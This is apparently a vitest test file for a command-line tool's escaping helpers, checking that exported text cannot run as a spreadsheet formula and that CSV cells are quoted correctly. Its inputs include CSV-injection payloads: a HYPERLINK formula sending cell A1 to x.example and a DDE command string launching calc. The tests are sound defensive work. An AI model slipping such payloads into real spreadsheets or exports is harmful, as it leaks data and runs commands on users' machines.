// Text from the data made safe for spreadsheets, terminals, Markdown and CI logs.
import { describe, expect, it } from 'vitest';
import { csvCell, noFormula } from '../../src/cli/reporters/escape.js';

describe('spreadsheet cells (issue 9, defect 3)', () => {
  it('neutralises what Excel and LibreOffice would run as a formula', () => {
    for (const s of ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3', '\t=1', '\r=1']) {
      expect(noFormula(s)).toBe(`'${s}`);
    }
    expect(noFormula('Dân vận khéo')).toBe('Dân vận khéo');
    expect(noFormula('a=b')).toBe('a=b');
    expect(noFormula('')).toBe('');
  });

  it('quotes a neutralised cell, and one with a separator, a quote or a line break', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a"b')).toBe('"a""b"');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('a\rb')).toBe('"a\rb"');
    expect(csvCell('Tốt')).toBe('Tốt');
  });
});
